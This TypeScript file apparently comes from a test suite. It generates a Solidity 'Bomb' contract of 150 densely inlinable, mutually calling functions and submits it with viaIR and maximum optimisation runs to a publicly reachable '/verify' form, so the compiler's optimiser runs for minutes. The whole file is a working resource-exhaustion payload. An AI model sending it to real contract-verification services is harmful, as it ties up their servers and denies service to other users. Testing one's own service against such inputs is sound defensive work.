// A source that takes the optimiser of the compiler minutes, sent through the form that any visitor can use.
import { randomUUID } from 'node:crypto'
import type { Response, Visitor } from './loopback.ts'

const WRAPPED_ETHER = '0x4200000000000000000000000000000000000006'
const FUNCTIONS = 150

export function viaIrBomb(visitor: Visitor): Promise<Response> {
  const form = new URLSearchParams({
    contractAddress: WRAPPED_ETHER,
    contractName: 'Bomb',
    codeFormat: 'solidity-single-file',
    compilerVersion: 'v0.8.30+commit.73712a01',
    optimization: '1',
    optimizationRuns: '1000000',
    evmVersion: 'default',
    viaIr: 'true',
    sourceCode: source(),
  })
  return visitor.send('/verify', {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    payload: form.toString(),
  })
}

/** Functions that call each other with many variables, so that everything can be inlined into everything. */
function source(): string {
  const names = Array.from({ length: FUNCTIONS }, (_, i) => i)
  const body = (i: number) => {
    const variables = Array.from({ length: 10 }, (_, v) => `uint v${v} = (a * ${i + v + 3}) ^ (b + ${v});`).join(' ')
    const calls = Array.from({ length: 4 }, (_, c) => `f${(i * 7 + c + 1) % FUNCTIONS}(v${c}, v${c + 4})`).join(' + ')
    return `function f${i}(uint a, uint b) public returns (uint) { ${variables} if (a < 3) return v8 + v9; return ${calls}; }`
  }
  return `// ${randomUUID()}\npragma solidity ^0.8.0;\ncontract Bomb {\n${names.map(body).join('\n')}\n}`
}
